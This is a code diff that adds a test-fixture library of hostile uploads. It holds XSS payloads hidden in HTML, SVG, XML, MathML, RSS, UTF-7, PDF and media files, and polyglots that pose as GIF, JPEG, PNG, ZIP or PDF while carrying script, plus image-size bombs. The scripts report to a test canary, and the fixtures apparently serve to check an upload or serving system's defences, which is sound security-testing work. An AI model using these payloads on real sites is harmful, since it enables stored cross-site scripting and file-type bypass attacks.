@@ -1,7 +1,6 @@
+import { gzipSync } from 'node:zlib';
+import { zipSync } from 'fflate';
 import type { HostileFile } from './hostile-file.ts';
-import { hostileDrawings } from './hostile-drawings.ts';
-import { hostilePages } from './hostile-pages.ts';
-import { polyglots } from './polyglots.ts';
 
 /**
  * What runs in a file, were it run: it says so to every window it can reach and to the canary.
@@ -15,4 +14,199 @@ function runIn(canary: string): string {
 export function hostileFiles(canary: string): readonly HostileFile[] {
   const run = runIn(canary);
   return [...hostileDrawings(run, canary), ...hostilePages(run, canary), ...polyglots(run)];
+}
+
+/** Pages, scripts, styles and documents that a browser runs or loads more for, under true and false names. */
+function hostilePages(run: string, canary: string): readonly HostileFile[] {
+  const page = `<!doctype html><title>x</title><script>${run}</script>`;
+  const xhtml = `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script>${run.replaceAll('&', '&amp;')}</script></body></html>`;
+  const text = (name: string, body: string, type?: string): HostileFile => ({
+    name,
+    body: Buffer.from(body),
+    ...(type !== undefined && { type }),
+  });
+  const named = (
+    [
+      ['page.html', 'text/html'],
+      ['page.htm', 'TEXT/HTML; charset=utf-8'],
+      ['page.jpg', 'text/html'],
+      ['photo.jpg.html', 'image/jpeg'],
+      ['photo.html.jpg', 'image/png'],
+      ['photo.php;.jpg', 'image/png;text/html'],
+      ['two-types.jpg', 'text/html, image/png'],
+      ['parameter.jpg', 'image/jpeg; x="text/html"'],
+      ['no-type', undefined],
+      ['no-such-type', 'x/y'],
+      ['octets.html', 'application/octet-stream'],
+      ['plain.html', 'text/plain'],
+      ['unknown.html', 'application/x-unknown-content-type'],
+      ['any.html', '*/*'],
+      ['replaced.html', 'multipart/x-mixed-replace; boundary=x'],
+      ['mail.mht', 'message/rfc822'],
+      ['film.mp4', 'video/mp4'],
+      ['paper.pdf', 'application/pdf'],
+      ['drawing.svg', 'image/svg+xml'],
+      ['icon.ico', 'image/x-icon'],
+    ] as const
+  ).map(([name, type]) => text(name, page, type));
+  return [
+    ...named,
+    { ...text('inline.html', page, 'text/html'), said: { ContentDisposition: 'inline' } },
+    text('spaces.jpg', `${' \n'.repeat(400)}${page}`, 'image/jpeg'),
+    text('xhtml.xhtml', xhtml, 'application/xhtml+xml'),
+    text('xhtml.xml', xhtml, 'text/xml'),
+    text(
+      'transformed.xml',
+      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><x><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script xmlns="http://www.w3.org/1999/xhtml">${run}</script></xsl:template></xsl:stylesheet></x>`,
+      'application/xml',
+    ),
+    text(
+      'formula.mml',
+      `<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${run}"><mtext><script xmlns="http://www.w3.org/1999/xhtml">${run}</script></mtext></math>`,
+      'application/mathml+xml',
+    ),
+    text(
+      'feed.rss',
+      `<rss version="2.0"><channel><item><description><script xmlns="http://www.w3.org/1999/xhtml">${run}</script></description></item></channel></rss>`,
+      'application/rss+xml',
+    ),
+    text('utf-7.html', `+ADw-script+AD4-${run}+ADw-/script+AD4-`, 'text/html; charset=utf-7'),
+    {
+      name: 'utf-16.html',
+      type: 'text/html; charset=utf-16le',
+      body: Buffer.from(`\ufeff${page}`, 'utf16le'),
+    },
+    text(
+      'refresh.html',
+      `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`,
+      'text/html',
+    ),
+    text('script.js', run, 'text/javascript'),
+    text('script.jpg', run, 'application/javascript'),
+    text('module.mjs', `${run};export{}`, 'text/javascript'),
+    text('worker.js', `${run};onfetch=e=>e.respondWith(new Response('taken'))`, 'text/javascript'),
+    text('data.json', `{"x":"<script>${run}</script>"}`, 'application/json'),
+    text(
+      'style.css',
+      `@import '${canary}/import.css';*{background:url(${canary}/b.png)}`,
+      'text/css',
+    ),
+    text('page-as-style.css', `{}*{background:url(${canary}/c.png)}${page}`, 'text/css'),
+    text('kept.appcache', `CACHE MANIFEST\n${canary}/kept`, 'text/cache-manifest'),
+    text('app.webmanifest', `{"start_url":"${canary}/start"}`, 'application/manifest+json'),
+    text('words.vtt', `WEBVTT\n\n00:00.000 --> 01:00.000\n<script>${run}</script>`, 'text/vtt'),
+    text('film.swf', 'FWS\u0009\u0000', 'application/x-shockwave-flash'),
+  ];
+}
+
+const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
+const TYPE = 'image/svg+xml';
+
+/** Drawings that carry a script, or ask for one, in every way SVG has. */
+function hostileDrawings(run: string, canary: string): readonly HostileFile[] {
+  const attribute = run.replaceAll('"', '&quot;').replaceAll('&', '&amp;');
+  const script = `<script><![CDATA[${run}]]></script>`;
+  const whole = `<svg ${SVG} width="9" height="9">${script}</svg>`;
+  const drawings: Readonly<Record<string, string>> = {
+    'script.svg': whole,
+    'script-href.svg': `<svg ${SVG}><script href="${canary}/script.js"/></svg>`,
+    'script-xlink.svg': `<svg ${SVG}><script xlink:href="data:text/javascript,${encodeURIComponent(run)}"/></svg>`,
+    'onload.svg': `<svg ${SVG} onload="${attribute}"/>`,
+    'onbegin.svg': `<svg ${SVG}><animate onbegin="${attribute}" attributeName="x" dur="1s"/></svg>`,
+    'set-onload.svg': `<svg ${SVG}><image href="x:" onerror="${attribute}"/></svg>`,
+    'foreign-script.svg': `<svg ${SVG}><foreignObject width="9" height="9"><script xmlns="http://www.w3.org/1999/xhtml">${run}</script></foreignObject></svg>`,
+    'foreign-frame.svg': `<svg ${SVG}><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.__pwned=1"/></foreignObject></svg>`,
+    'link.svg': `<svg ${SVG}><a xlink:href="javascript:${attribute}"><rect width="999" height="999"/></a></svg>`,
+    'use-data.svg': `<svg ${SVG}><use href="data:image/svg+xml,${encodeURIComponent(whole)}#x"/></svg>`,
+    'style-import.svg': `<svg ${SVG}><style>@import '${canary}/style.css';</style></svg>`,
+    'picture-abroad.svg': `<svg ${SVG}><image href="${canary}/picture.png" width="9" height="9"/></svg>`,
+    'entity.svg': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY run "${attribute}">]><svg ${SVG}><script>&run;</script></svg>`,
+    'entity-abroad.svg': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${canary}/entity">]><svg ${SVG}><text>&x;</text></svg>`,
+    'style-sheet.svg': `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="${canary}/style.css"?><svg ${SVG}/>`,
+    'handler.svg': `<svg ${SVG}><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler></svg>`,
+    'behind-a-comment.svg': `<!-- a drawing --><?x y?><!DOCTYPE svg>${whole}`,
+    'page-in-comment.svg': `<!--><script>${run}</script>-->${whole}`,
+  };
+  return [
+    ...Object.entries(drawings).map(([name, text]) => ({
+      name,
+      type: TYPE,
+      body: Buffer.from(text),
+    })),
+    { name: 'drawing.png', type: 'image/png', body: Buffer.from(whole) },
+    { name: 'drawing.xml', type: 'application/xml', body: Buffer.from(whole) },
+    { name: 'drawing.html', type: 'text/html', body: Buffer.from(whole) },
+    { name: 'marked.svg', type: TYPE, body: Buffer.from(`\ufeff${whole}`) },
+    { name: 'utf-16.svg', type: TYPE, body: Buffer.from(`\ufeff${whole}`, 'utf16le') },
+    {
+      name: 'packed.svg',
+      type: TYPE,
+      body: gzipSync(whole),
+      said: { ContentEncoding: 'gzip', ContentDisposition: 'inline' },
+    },
+  ];
+}
+
+/** Files that begin as one thing and go on as another, and pictures that say they are larger than any memory. */
+function polyglots(run: string): readonly HostileFile[] {
+  const page = `<!doctype html><script>${run}</script>`;
+  const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`;
+  const bytes = (...parts: (string | Uint8Array)[]) =>
+    Buffer.concat(
+      parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)),
+    );
+  const gif = 'GIF89a';
+  const jpeg = '\xff\xd8\xff\xfe';
+  const png = '\x89PNG\r\n\x1a\n';
+  const length = (text: string) => {
+    const two = Buffer.alloc(2);
+    two.writeUInt16BE(text.length + 2);
+    return two;
+  };
+  const size = '\xff\xff\xff\xff';
+  return [
+    { name: 'gif.js', type: 'text/javascript', body: bytes(gif, `=1;${run};`) },
+    { name: 'gif.html', type: 'text/html', body: bytes(gif, '\x01\0\x01\0', page) },
+    { name: 'gif.gif', type: 'image/gif', body: bytes(gif, `/*${page}*/=1;${run}`) },
+    { name: 'jpeg.html', type: 'text/html', body: bytes(jpeg, length(page), page, '\xff\xd9') },
+    { name: 'jpeg.js', type: 'text/javascript', body: bytes(jpeg, `/*\0*/=1;${run}`) },
+    { name: 'jpeg.jpg', type: 'image/jpeg', body: bytes(jpeg, length(page), page, '\xff\xd9') },
+    { name: 'png.html', type: 'text/html', body: bytes(png, '\0\0\0\rIHDR', page) },
+    { name: 'png.svg', type: 'image/svg+xml', body: bytes(png, drawing) },
+    { name: 'webp.html', type: 'text/html', body: bytes('RIFF\xff\0\0\0WEBPVP8X', page) },
+    { name: 'avif.html', type: 'text/html', body: bytes('\0\0\0\x1cftypavif\0\0\0\0avif', page) },
+    { name: 'riff.js', type: 'text/javascript', body: bytes(`RIFF=1;${run};//WAVE`) },
+    { name: 'bitmap.js', type: 'text/javascript', body: bytes(`BM=1;${run};`) },
+    { name: 'bitmap.html', type: 'image/bmp', body: bytes('BM', page) },
+    { name: 'pdf.js', type: 'text/javascript', body: bytes(`%PDF-1.7=1;${run};`) },
+    {
+      name: 'pdf.pdf',
+      type: 'application/pdf',
+      body: bytes(`%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(${run})>>>>endobj\n`, page),
+    },
+    { name: 'pdf.html', type: 'text/html', body: bytes('%PDF-1.7\n', page) },
+    {
+      name: 'zip.html',
+      type: 'text/html',
+      body: bytes(zipSync({ 'index.html': Buffer.from(page) }, { level: 0 })),
+    },
+    { name: 'zip.jar', type: 'application/java-archive', body: bytes('PK\x03\x04', page) },
+    { name: 'film.html', type: 'text/html', body: bytes('\0\0\0\x18ftypmp42\0\0\0\0mp42', page) },
+    {
+      name: 'huge.png',
+      type: 'image/png',
+      body: bytes(png, '\0\0\0\rIHDR', size, size, '\x08\x06'),
+    },
+    { name: 'huge.gif', type: 'image/gif', body: bytes(gif, '\xff\xff\xff\xff\x80\0\0') },
+    {
+      name: 'huge.jpg',
+      type: 'image/jpeg',
+      body: bytes('\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03\x01"\0\x02\x11\x01\x03\x11\x01'),
+    },
+    {
+      name: 'huge.svg',
+      type: 'image/svg+xml',
+      body: bytes('<svg xmlns="http://www.w3.org/2000/svg" width="9e9" height="9e9"/>'),
+    },
+  ];
 }
